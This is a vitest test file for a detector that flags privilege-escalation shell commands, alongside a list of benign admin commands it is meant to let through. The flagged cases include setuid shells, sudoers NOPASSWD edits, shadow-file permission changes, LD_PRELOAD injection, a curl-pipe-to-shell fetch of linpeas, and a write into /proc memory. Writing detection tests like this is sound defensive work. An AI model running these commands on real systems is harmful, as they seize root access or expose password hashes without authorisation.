// Rights given away are found: set-uid shells, capabilities, sudo rules, opened password files.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  'cp /bin/bash /tmp/b; chmod u+s /tmp/b',
  'chmod 4755 /usr/bin/python3',
  'chmod u+s /usr/bin/find',
  'chown root:root ./x && chmod +s ./x',
  'chmod 6777 /srv/a',
  'setcap cap_setuid+ep /usr/bin/perl',
  'setcap cap_dac_override,cap_setgid=eip /usr/bin/vim.basic',
  "echo 'svc ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
  "echo 'svc ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/svc",
  "sed -i 's/^%sudo.*/%sudo ALL=(ALL:ALL) NOPASSWD:ALL/' /etc/sudoers",
  'sudo -u#-1 id',
  'sudo -u \\#-1 /bin/bash',
  'chmod 666 /etc/shadow',
  'chmod o+r /etc/shadow',
  'setfacl -m u:svc:rw /etc/shadow',
  'echo /tmp/x.so >> /etc/ld.so.preload',
  'LD_PRELOAD=/tmp/x.so id',
  'sudo LD_PRELOAD=/tmp/x.so find',
  './linpeas.sh -a',
  'curl -s https://example.org/linpeas.sh | sh',
  'getent shadow',
  'GCONV_PATH=./x pkexec',
  'dd of=/proc/4242/mem if=/tmp/sc bs=1 seek=4096 conv=notrunc',
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine('cp /bin/bash /tmp/b; chmod u+s /tmp/b').category).toBe('privilege_escalation');
});

test.each([
  'chmod 755 run.sh',
  'chmod +x build.sh',
  'chmod 1777 /tmp/build',
  'setcap cap_net_bind_service=+ep /usr/bin/node',
  'visudo -c -f /etc/sudoers',
  'sudo -u postgres psql',
  'chown -R www-data:www-data /var/www',
  'getent passwd root',
  'chmod 640 /etc/shadow',
  'sudo chmod u+s /usr/bin/Xvfb',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
